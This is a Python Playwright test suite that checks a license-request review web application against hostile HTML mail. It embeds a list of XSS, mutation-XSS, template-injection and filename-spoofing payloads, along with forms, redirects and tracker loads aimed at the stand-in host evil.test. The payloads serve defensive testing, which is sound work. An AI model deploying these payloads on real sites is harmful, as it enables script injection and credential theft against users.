"""Mail that wants to run, load or lead somebody astray, on every page that shows any of it."""

import re
from collections.abc import Iterator
from datetime import timedelta
from urllib.parse import urlsplit

from playwright.sync_api import Page, expect

from tests.browser.conftest import Visitors
from tests.integration.local_worker import FORMS, KEY, VENDOR, LocalWorker, form, mail
from worker.services.review import page_actions
from worker.services.staff_roles import StaffRole

#: Each would call `window.ran.push`, ask another host for something, or change what the page looks like.
TRICKS = (
    "<script>ran.push(1)</script>",
    '"><img src=x onerror="ran.push(2)">',
    "'><svg onload=ran.push(3)><animate onbegin=ran.push(4) attributeName=x dur=1s>",
    '<a href="javascript:ran.push(5)">x</a>',
    "<style>*{display:none!important;background:url(//evil.test/a.css)}</style>",
    "</title></textarea></template></noscript><iframe srcdoc='<script>parent.ran.push(6)</script>'></iframe>",
    "{{ 7*7 }}{% include 'x' %}",
    "\u202egnp.exe\u2066\u2067 \ufeff",
    "<base href='https://evil.test/'><meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<form action=https://evil.test/><input name=password autofocus onfocus=ran.push(8)>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<object data=data:text/html,<script>ran.push(9)</script>></object>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran.push(10)&gt;'>",
    "data:text/html,<script>ran.push(11)</script> javascript:ran.push(12) https://evil.test/?q=1",
)
BOUNDARY = "frontier"
HTML = f"""\
From: "{{name}}" <ada@engines.test>
To: {VENDOR}
Cc: "<svg onload=ran.push(20)>" <cc@engines.test>
Subject: I want to migrate my Server license to Atlassian Marketplace {{subject}}
Date: Mon, 02 Mar 2026 09:00:00 +0000
Message-ID: <html@engines.test>
X-Trick: </div><script>ran.push(21)</script>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary={BOUNDARY}

--{BOUNDARY}
Content-Type: text/html; charset=utf-8

<html><head><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/">
<link rel="stylesheet" href="https://evil.test/x.css"><style>body{{{{display:none}}}}</style></head>
<body onload="ran.push(22)" style="background:url(https://evil.test/bg.png)">
<img src="https://tracker.test/pixel.png"><img src="cid:x" srcset="https://tracker.test/2x.png 2x">
<svg><script>ran.push(23)</script><use href="data:image/svg+xml,<svg onload=ran.push(24)>"/></svg>
<video autoplay src="https://evil.test/v.mp4" poster="https://evil.test/p.png"></video>
<form action="https://evil.test/steal"><input name="csrf">
<button formaction="javascript:ran.push(25)">Approve</button></form>
<a href="javascript:ran.push(26)">click</a> <a href="//evil.test" ping="https://evil.test/ping">and here</a>
<table background="https://evil.test/t.png"><tr><td onclick="ran.push(27)">cell</td></tr></table>
<div style="position:fixed;inset:0;z-index:999">{{form}}</div>
<p>{{tricks}}</p>
</body></html>
--{BOUNDARY}
Content-Type: image/svg+xml; name="={{file}}.svg"
Content-Disposition: attachment; filename="<img src=x onerror=ran.push(28)>.svg"

<svg xmlns="http://www.w3.org/2000/svg" onload="ran.push(29)"><script>ran.push(30)</script></svg>
--{BOUNDARY}
Content-Type: text/html; name="\u202elmth.page"
Content-Disposition: attachment; filename="\u202elmth.page"

<script>ran.push(31)</script>
--{BOUNDARY}--
"""


def html_mail() -> bytes:
    """A request as HTML, with all that HTML mail can try."""
    filled = form(organization="Engines &lt;b onclick=ran.push(40)&gt;Ltd").replace("\n", "<br>\n")
    text = HTML.format(
        name="<img src=x onerror=ran.push(41)>",
        subject='"><script>ran.push(42)</script>',
        form=filled,
        tricks=" ".join(TRICKS),
        file="x",
    )
    return text.replace("\n", "\r\n").encode()


def lay_out(worker: LocalWorker) -> None:
    """Requests in several states, each with tricks in all that a customer can write."""
    first = worker.receive(html_mail())
    third = len(TRICKS) // 3 + 1
    for number in range(3):
        tricks = TRICKS[number * third : (number + 1) * third]
        name = tricks[0].replace('"', "")[:60]
        given = {
            "organization": " ".join(tricks),
            "address": f"{tricks[-1]}, 1 High Street, London, United Kingdom",
        }
        worker.receive(
            mail(
                form(
                    **given,
                    license_key="" if number == 2 else f"KEY-{number}-0123456789",
                    holder_name=tricks[1],
                ),
                sender=f'"{name}" <c{number}@engines{number}.test>',
                subject=f"I want to migrate my Server license to Atlassian Marketplace {' '.join(tricks)}",
                Message_ID=f"<t{number}@engines.test>",
            )
        )
    reference = worker.request(first).reference
    worker.receive(
        mail(
            f"4. The organization (company) name for the License: {TRICKS[2]}\n",
            sender=f"{TRICKS[3].replace(chr(34), '')[:30]} <eve@other.test>",
            subject=f"I want to migrate [{reference}] {TRICKS[1]}",
            Message_ID="<eve@other.test>",
        )
    )
    text = f"1. My license (key or SEN): SEN-1234567 {TRICKS[0]}\n2. Number of users: 25 {TRICKS[1]}\n"
    cloud = mail(
        text, sender="C <c@cloud.test>", subject=FORMS["cloud-interest"].subject, Message_ID="<c@c.test>"
    )
    worker.receive(cloud)
    page_actions.add_note(worker.services, reference, TRICKS[1], "<script>ran.push(50)</script>")
    worker.send()
    worker.now += timedelta(minutes=1)


#: What a page must not hold, told by the browser in one go.
FACTS = """() => {
  const framed = "iframe:not([sandbox=''][src^='/'])", linked = "link:not([href^='/static/'])";
  const foreign = `img, ${framed}, object, embed, video, base, meta[http-equiv], style, ${linked}`;
  const handlers = "count(//@*[starts-with(name(), 'on') or name() = 'style'])";
  const actions = [...document.querySelectorAll("[action], [formaction]")].flatMap(
    el => [el.getAttribute("formaction"), el.getAttribute("action")].filter(Boolean));
  return {
    ran: window.ran,
    shown: document.querySelector("main").checkVisibility(),
    foreign: document.querySelectorAll(foreign).length,
    scripts: document.querySelectorAll("script").length,
    handlers: document.evaluate(handlers, document).numberValue,
    actions: actions.filter(to => !to.startsWith("/") || to.startsWith("//")),
  };
}"""
QUIET = {"ran": [], "shown": True, "foreign": 0, "scripts": 1, "handlers": 0, "actions": []}


def shape(path: str) -> str:
    """Pages of one kind are looked at once, but for those of requests."""
    split = urlsplit(path)
    if split.path.startswith("/requests/"):
        return f"{split.path}?{split.query}"
    told = re.search(r"(?:state|disposition|as)=\w+", split.query)
    return re.sub(r"/\d+", "/N", split.path) + (f"?{told[0]}" if told else "")


def links(page: Page) -> list[str]:
    """Where the page leads; each link must be one of ours."""
    found: list[str] = page.eval_on_selector_all("a[href]", "all => all.map(a => a.getAttribute('href'))")
    assert [link for link in found if not link.startswith(("/", "#")) or link.startswith("//")] == []
    return [link.partition("#")[0] for link in found if link.startswith("/")]


def walk(page: Page, start: str) -> Iterator[str]:
    """Every page that can be reached by links, each shape once; the page shows what is yielded."""
    waiting, seen = [start], {shape(start)}
    while waiting:
        path = waiting.pop()
        if "/file?" in path:  # to be saved, and never shown
            continue
        response = page.goto(path, wait_until="load")
        assert response is not None
        assert response.ok, path
        yield path
        for link in links(page):
            if shape(link) not in seen:
                seen.add(shape(link))
                waiting.append(link)


def test_nothing_of_hostile_mail_runs_loads_or_hides_on_any_page(
    worker: LocalWorker, visitors: Visitors
) -> None:
    lay_out(worker)
    page = visitors.sign_in("olga", StaffRole.ADMIN)
    seen = []
    for path in walk(page, "/queue"):
        seen.append(urlsplit(path))
        assert {"path": path, **page.evaluate(FACTS)} == {"path": path, **QUIET}
        assert KEY not in page.content()
    assert {"as=html", "as=headers"} <= {one.query for one in seen}
    assert {one.path for one in seen} >= {
        "/queue",
        "/interest",
        "/staff",
        "/outbox",
        "/ledger",
        "/figures",
        "/mailboxes",
    }
    deeds = {one.path.rpartition("/")[2] for one in seen if one.path.startswith("/requests/")}
    assert {"ask", "answer", "reject"} <= deeds


def test_what_staff_do_with_hostile_values_shows_them_as_text(
    worker: LocalWorker, visitors: Visitors
) -> None:
    outcome = worker.receive(html_mail())
    reference, trick = worker.request(outcome).reference, TRICKS[1] + TRICKS[5]
    page, other = visitors.sign_in("olga"), visitors.sign_in("maya")
    visitors.expected.append("status of 4(09|22)")
    for one, value in ((other, trick), (page, TRICKS[0] + trick)):
        one.goto(f"/requests/{reference}")
        one.locator("#field-organization .edit > summary").click()
        one.locator("#in-organization").fill(value)
        one.locator("#why-organization").fill(value)
    for one in (other, page):
        one.locator("#field-organization").get_by_role("button", name="Save").click()
    expect(page.get_by_role("heading", name="maya changed")).to_be_visible()
    expect(page.locator("main")).to_contain_text(trick)

    page.goto(f"/requests/{reference}/reject")
    page.get_by_label("Something else").check()
    page.get_by_label("A line of your own").fill(trick)
    expect(page.locator("#letter")).to_contain_text("onerror")
    page.get_by_text("The same as HTML").click()
    page.get_by_role("button", name="Reject and send").click()
    expect(page.locator("#actions")).to_contain_text("Rejected by you")

    page.goto("/queue")
    page.get_by_label("Search requests").fill(f"{TRICKS[0]} nowhere")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Search")).to_contain_text("<script>")
    for one in (page, other):
        assert one.evaluate("window.ran") == []
